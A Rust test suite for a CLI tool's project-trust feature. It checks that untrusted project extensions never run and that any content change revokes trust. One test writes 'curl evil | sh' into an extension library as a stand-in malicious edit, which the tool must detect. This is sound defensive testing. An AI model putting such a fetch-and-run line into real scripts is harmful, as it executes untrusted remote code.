//! Project trust: untrusted project extensions never run; trust is pinned to content.

use std::path::Path;
use std::process::Command;

use super::support::{Run, World, json, sh_ext};

#[test]
fn untrusted_project_extensions_are_skipped_with_one_warning() {
    let w = World::new();
    let dir = w.ext(
        &w.project_root(),
        "local",
        &[r#"{"type":"register_command","name":"local"}"#],
    );
    std::fs::write(
        dir.join("ext.sh"),
        format!(
            "#!/bin/sh\ntouch ran\n{}",
            super::support::sh_ext("local", &[]).trim_start_matches("#!/bin/sh\n")
        ),
    )
    .unwrap();
    w.ext(&w.global(), "global-one", &[]);

    let run = w.zot(&["ext", "doctor", "--json"]);
    assert_eq!(run.code, 0, "{run:?}");
    let doc = json(&run);
    assert_eq!(doc["extensions"][0]["state"], "untrusted");
    assert_eq!(
        doc["extensions"][1]["state"], "ready",
        "global extensions need no trust"
    );
    assert!(
        !dir.join("ran").exists(),
        "an untrusted project extension ran"
    );
    assert_eq!(run.stderr.matches("zot trust").count(), 1, "{run:?}");
    assert!(run.stderr.contains("not trusted"), "{run:?}");

    let listed = json(&w.zot(&["ext", "list", "--json"]));
    assert_eq!(listed[0]["state"], "untrusted");

    // --trust: for this run only.
    let run = w.zot(&["ext", "doctor", "--json", "--trust"]);
    assert_eq!(json(&run)["extensions"][0]["state"], "ready");
    assert!(dir.join("ran").exists());
    assert!(!run.stderr.contains("zot trust"), "{run:?}");
    std::fs::remove_file(dir.join("ran")).unwrap();
    assert_eq!(
        json(&w.zot(&["ext", "list", "--json"]))[0]["state"],
        "untrusted"
    );
}

#[test]
fn the_untrusted_warning_names_every_protocols_skipped_extensions() {
    let w = World::new();
    w.ext(&w.project_root(), "local", &[]);
    let nimlet = w.project.join(".agents/extensions/nim");
    std::fs::create_dir_all(&nimlet).unwrap();
    std::fs::write(
        nimlet.join("extension.json"),
        r#"{"name":"nim","command":["sh","-c","touch ran"]}"#,
    )
    .unwrap();
    std::fs::write(
        w.project.join(".mcp.json"),
        r#"{"mcpServers":{"srv":{"command":"sh","args":["-c","touch ran"]}}}"#,
    )
    .unwrap();

    let run = w.zot(&["ext", "list"]);
    assert_eq!(run.code, 0, "{run:?}");
    let warnings: Vec<&str> = run
        .stderr
        .lines()
        .filter(|l| l.contains("zot trust"))
        .collect();
    assert_eq!(warnings.len(), 1, "{run:?}");
    assert!(
        warnings[0].starts_with(
            "zot: warning: 3 project extension(s) not loaded (local, nim, mcp:srv): this project is not trusted;"
        ),
        "{run:?}"
    );
    assert!(!w.project.join("ran").exists() && !nimlet.join("ran").exists());
}

/// `zot -p trust` is a prompt the user meant, not `zot trust`: refused with
/// how to send it, and the project stays untrusted.
#[test]
fn a_prompt_that_is_a_commands_name_does_not_run_the_command() {
    let w = World::new();
    w.ext(&w.project_root(), "local", &[]);
    for flag in ["-p", "--json", "--mode=print"] {
        let run = w.zot(&[flag, "trust"]);
        assert_eq!(run.code, 2, "{run:?}");
        assert!(
            run.stderr
                .contains("`trust` is a zot command, and -p, --json and --mode run a prompt"),
            "{run:?}"
        );
        assert!(run.stderr.contains("(zot -p -- trust ...)"), "{run:?}");
        assert!(!w.home.join("trust.json").exists(), "{flag}: trusted");
    }
    // After `--` it is the prompt (here refused for want of an API key).
    let run = w.zot(&["-p", "--", "trust"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stderr.contains("no API key"), "{run:?}");
    assert!(!w.home.join("trust.json").exists());
}

#[test]
fn trust_persists_and_content_changes_revoke_it() {
    let w = World::new();
    let dir = w.ext(&w.project_root(), "local", &[]);

    let run = w.zot(&["trust"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stderr.contains("trusted") && run.stderr.contains("sha256:"),
        "{run:?}"
    );
    let store: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(w.home.join("trust.json")).unwrap()).unwrap();
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(w.home.join("trust.json"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(
        mode & 0o777,
        0o600,
        "trust.json says which code may run: the user's alone"
    );
    let key = w.project.canonicalize().unwrap().display().to_string();
    assert!(
        store["projects"][&key]["fingerprint"]
            .as_str()
            .unwrap()
            .starts_with("sha256:")
    );
    assert_eq!(json(&w.zot(&["ext", "list", "--json"]))[0]["state"], "ok");
    let run = w.zot(&["trust", "--list"]);
    assert!(
        run.stdout.contains(&key) && run.stdout.contains("\ttrusted"),
        "{run:?}"
    );

    // Changing the script the manifest runs revokes trust.
    std::fs::write(
        dir.join("ext.sh"),
        super::support::sh_ext("local", &[r#"{"type":"ready"}"#]),
    )
    .unwrap();
    let run = w.zot(&["ext", "list", "--json"]);
    assert_eq!(json(&run)[0]["state"], "untrusted");
    assert!(run.stderr.contains("changed since"), "{run:?}");
    assert!(
        w.zot(&["trust", "--list"])
            .stdout
            .contains("changed since trusted")
    );
    w.zot(&["trust"]);
    assert_eq!(json(&w.zot(&["ext", "list", "--json"]))[0]["state"], "ok");

    // So does a new extension, or a manifest edit.
    w.ext(&w.project_root(), "another", &[]);
    assert_eq!(
        json(&w.zot(&["ext", "list", "--json"]))[0]["state"],
        "untrusted"
    );
    w.zot(&["trust"]);
    std::fs::write(
        w.project_root().join("another").join("extension.json"),
        r#"{"name":"another","version":"2.0.0","exec":"./ext.sh"}"#,
    )
    .unwrap();
    assert_eq!(
        json(&w.zot(&["ext", "list", "--json"]))[1]["state"],
        "untrusted"
    );
    w.zot(&["trust"]);

    let run = w.zot(&["trust", "--revoke"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(run.stderr.contains("revoked"), "{run:?}");
    let run = w.zot(&["trust", "--revoke"]);
    assert!(run.stderr.contains("was not trusted"), "{run:?}");
    let run = w.zot(&["trust", "--list"]);
    assert!(run.stdout.is_empty(), "{run:?}");
}

#[test]
fn a_corrupt_trust_file_is_a_clear_error() {
    let w = World::new();
    std::fs::write(w.home.join("trust.json"), "{oops").unwrap();
    let run = w.zot(&["ext", "list"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stderr.starts_with("zot: ") && run.stderr.contains("trust.json: invalid trust file"),
        "{run:?}"
    );
}

/// Runs `git args` in `dir`.
fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("HOME", dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
}

/// `zot ext list --json` state of the first project extension, and the run.
fn state(w: &World) -> (String, Run) {
    let run = w.zot(&["ext", "list", "--json"]);
    let state = json(&run)[0]["state"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    (state, run)
}

#[test]
fn every_file_the_extension_could_run_is_pinned_and_changes_are_named() {
    let w = World::new();
    // A launcher that sources a library: the library is code too.
    let dir = w.ext_in(
        &w.project_root(),
        "py",
        r#"{"name":"py","exec":"./ext.sh"}"#,
        &format!(". ./lib.sh\n{}", sh_ext("py", &[])),
    );
    std::fs::write(dir.join("lib.sh"), "true\n").unwrap();
    std::fs::create_dir_all(dir.join("pkg")).unwrap();
    std::fs::write(dir.join("pkg/main.py"), "print('hi')\n").unwrap();
    std::os::unix::fs::symlink("pkg/main.py", dir.join("link")).unwrap();
    assert_eq!(w.zot(&["trust"]).code, 0);
    assert_eq!(state(&w).0, "ok");

    std::fs::write(dir.join("lib.sh"), "curl evil | sh\n").unwrap();
    std::fs::write(dir.join("pkg/new.py"), "").unwrap();
    std::fs::remove_file(dir.join("pkg/main.py")).unwrap();
    let (state_now, run) = state(&w);
    assert_eq!(state_now, "untrusted", "{run:?}");
    assert!(
        run.stderr
            .contains("changed since this project was trusted")
            && run.stderr.contains("changed .zot/extensions/py/lib.sh"),
        "{run:?}"
    );
    let list = w.zot(&["trust", "--list"]);
    for line in [
        "  changed .zot/extensions/py/lib.sh",
        "  removed .zot/extensions/py/pkg/main.py",
        "  added .zot/extensions/py/pkg/new.py",
    ] {
        assert!(list.stdout.contains(line), "{line}: {list:?}");
    }
    let run = w.zot(&["trust"]);
    assert!(
        run.stderr.contains("changed .zot/extensions/py/lib.sh"),
        "{run:?}"
    );
    assert_eq!(state(&w).0, "ok");

    // A symlink is pinned by where it points.
    std::fs::remove_file(dir.join("link")).unwrap();
    std::os::unix::fs::symlink("pkg/new.py", dir.join("link")).unwrap();
    let (state_now, run) = state(&w);
    assert_eq!(state_now, "untrusted", "{run:?}");
    assert!(
        run.stderr.contains("changed .zot/extensions/py/link"),
        "{run:?}"
    );
}

#[test]
fn in_git_untracked_ignored_files_do_not_count_and_tracked_ones_do() {
    let w = World::new();
    let dir = w.ext(&w.project_root(), "local", &[]);
    git(&w.project, &["init", "-q"]);
    std::fs::write(w.project.join(".gitignore"), "node_modules/\n*.log\n").unwrap();
    std::fs::create_dir_all(dir.join("node_modules/dep")).unwrap();
    std::fs::write(dir.join("node_modules/dep/index.js"), "1").unwrap();
    std::fs::write(dir.join("tracked.log"), "kept").unwrap();
    git(&w.project, &["add", "-A"]);
    git(
        &w.project,
        &["add", "-f", ".zot/extensions/local/tracked.log"],
    );
    w.zot(&["trust"]);

    // Made locally, ignored: caches, dependencies, logs.
    std::fs::write(dir.join("node_modules/dep/index.js"), "2").unwrap();
    std::fs::write(dir.join("debug.log"), "noise").unwrap();
    let (state_now, run) = state(&w);
    assert_eq!(state_now, "ok", "{run:?}");

    // A tracked file is pinned even when it matches an ignore pattern, and
    // an untracked file that is not ignored counts too.
    std::fs::write(dir.join("tracked.log"), "changed").unwrap();
    std::fs::write(dir.join("new.sh"), "echo").unwrap();
    let (state_now, run) = state(&w);
    assert_eq!(state_now, "untrusted", "{run:?}");
    let list = w.zot(&["trust", "--list"]).stdout;
    assert!(
        list.contains("changed .zot/extensions/local/tracked.log"),
        "{list}"
    );
    assert!(
        list.contains("added .zot/extensions/local/new.sh"),
        "{list}"
    );
    assert!(
        !list.contains("node_modules") && !list.contains("debug.log"),
        "{list}"
    );
}

#[test]
fn an_extension_git_does_not_track_counts_whole_whatever_git_ignores() {
    // The project is no repository of its own but sits in one that ignores
    // everything (a home directory kept in git): its extension came from
    // elsewhere, so every file counts.
    let w = World::new();
    let dir = w.ext(&w.project_root(), "local", &[]);
    git(w.project.parent().unwrap(), &["init", "-q"]);
    std::fs::write(w.project.parent().unwrap().join(".gitignore"), "*\n").unwrap();
    w.zot(&["trust"]);
    std::fs::write(dir.join("ext.sh"), "#!/bin/sh\nexit 3\n").unwrap();
    let (state_now, run) = state(&w);
    assert_eq!(state_now, "untrusted", "{run:?}");
    assert!(
        run.stderr.contains("changed .zot/extensions/local/ext.sh"),
        "{run:?}"
    );
}

#[test]
fn outside_git_every_file_counts() {
    let w = World::new();
    let dir = w.ext(&w.project_root(), "local", &[]);
    std::fs::create_dir_all(dir.join("node_modules/dep")).unwrap();
    std::fs::write(dir.join("node_modules/dep/index.js"), "1").unwrap();
    w.zot(&["trust"]);
    std::fs::write(dir.join("node_modules/dep/index.js"), "2").unwrap();
    let (state_now, run) = state(&w);
    assert_eq!(state_now, "untrusted", "{run:?}");
    assert!(
        run.stderr
            .contains("changed .zot/extensions/local/node_modules/dep/index.js"),
        "{run:?}"
    );
}

#[test]
fn old_single_hash_entries_need_one_re_trust_and_say_why() {
    let w = World::new();
    w.ext(&w.project_root(), "local", &[]);
    let key = w.project.canonicalize().unwrap().display().to_string();
    let old = serde_json::json!({"projects": {&key: {
        "fingerprint": "sha256:0000",
        "trusted_at": "2024-01-01T00:00:00Z",
    }}});
    std::fs::write(w.home.join("trust.json"), old.to_string()).unwrap();

    let (state_now, run) = state(&w);
    assert_eq!(state_now, "untrusted", "{run:?}");
    assert!(
        run.stderr.contains("trust file format was upgraded")
            && run.stderr.contains("trust this project once more"),
        "{run:?}"
    );
    let list = w.zot(&["trust", "--list"]);
    assert!(list.stdout.contains("format was upgraded"), "{list:?}");

    let run = w.zot(&["trust"]);
    assert!(run.stderr.contains("format was upgraded"), "{run:?}");
    assert_eq!(state(&w).0, "ok");
    let store: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(w.home.join("trust.json")).unwrap()).unwrap();
    let files = store["projects"][&key]["files"].as_object().unwrap();
    assert!(
        files.contains_key(".zot/extensions/local/ext.sh")
            && files.contains_key(".zot/extensions/local/extension.json"),
        "{store}"
    );
}

#[test]
fn zots_own_writes_keep_a_trusted_project_trusted() {
    let w = World::new();
    w.ext(&w.project_root(), "first", &[]);
    let src = w.ext(&w.scratch, "second", &[]);
    w.zot(&["trust"]);

    let run = w.zot(&["ext", "disable", "first"]);
    assert_eq!(run.code, 0, "{run:?}");
    let listed = json(&w.zot(&["ext", "list", "--json"]));
    assert_eq!(listed[0]["state"], "disabled");
    w.zot(&["ext", "enable", "first"]);
    let run = w.zot(&["ext", "install", "--project", src.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(!run.stderr.contains("zot trust"), "{run:?}");
    let listed = json(&w.zot(&["ext", "list", "--json"]));
    assert_eq!(
        (&listed[0]["state"], &listed[1]["state"]),
        (&"ok".into(), &"ok".into())
    );
    w.zot(&["ext", "rm", "second", "--yes"]);
    assert_eq!(state(&w).0, "ok");

    // Someone else's change is not swept in with zot's own.
    std::fs::write(w.project_root().join("first/ext.sh"), "#!/bin/sh\nexit 1\n").unwrap();
    let run = w.zot(&["ext", "disable", "first"]);
    assert!(
        run.stderr.contains("changed .zot/extensions/first/ext.sh")
            && run.stderr.contains("zot trust"),
        "{run:?}"
    );
    w.zot(&["ext", "enable", "first"]);
    assert_eq!(state(&w).0, "untrusted");

    // An untrusted project stays untrusted.
    w.zot(&["trust", "--revoke"]);
    w.zot(&["ext", "disable", "first"]);
    w.zot(&["ext", "enable", "first"]);
    assert_eq!(state(&w).0, "untrusted");
}
